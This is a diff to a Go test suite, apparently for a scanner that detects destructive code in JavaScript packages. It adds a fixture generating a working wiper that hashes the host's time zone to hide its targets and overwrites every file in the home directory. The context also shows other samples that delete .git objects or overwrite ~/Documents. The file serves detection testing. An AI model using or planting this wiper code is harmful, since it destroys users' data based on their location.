@@ -50,6 +50,11 @@ func TestDestructiveFS(t *testing.T) {
 exports.sweep = () => fs.rmSync(p.join(root, ".git", "objects"), { recursive: true, force: true });`}, finding.SeverityCritical},
 		{"scaffold_drops_template_git", map[string]string{"lib/create.js": `const fs = require("fs"), p = require("path");
 exports.create = (dir) => { clone(dir); fs.rmSync(p.join(dir, ".git"), { recursive: true, force: true }) };`}, finding.SeverityNone},
+		// the host's zone read, its targets kept out of sight by a hash
+		// of the file's own making, one text written over every file; a
+		// calendar exporter writing each file's own data is no wiper
+		{"overwrite_by_zone_any_hash", map[string]string{"lib/tz.js": zoneWalk(`"\u2764"`)}, finding.SeverityCritical},
+		{"export_by_zone", map[string]string{"lib/tz.js": zoneWalk(`render(p, zone)`)}, finding.SeverityNone},
 		{"overwrite_timed_by_clock", map[string]string{"lib/retention.js": timeBomb("Date.now() - started > 5000")}, finding.SeverityNone},
 		// the project's own directories named, deleted when the IP's
 		// country is on a list; a geolocation client clearing its cache
@@ -135,6 +140,17 @@ exports.compact = () => { if (` + gate + `) return;
   const walk = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name);
     if (e.isDirectory()) walk(p); else fs.writeFileSync(p, "peace\n".repeat(64)) } };
   walk(path.join(os.homedir(), "Documents")) };`
+}
+
+// zoneWalk is a small module that reads the host's time zone, compares a
+// hash of its own with a set of numbers and walks the home directory
+// writing content to every file it finds.
+func zoneWalk(content string) string {
+	return `const fs = require("fs"), os = require("os"), path = require("path");
+const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
+function djb(s) { let x = 5381; for (const c of Buffer.from(s)) x = (Math.imul(x, 33) ^ c) >>> 0; return x }
+function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else fs.writeFileSync(p, ` + content + `) } }
+if (new Set([0xeae5cb18, 0xd8982a00]).has(djb(zone))) walk(os.homedir());`
 }
 
 // hostGuard is a small module that hashes the host's name and looks it
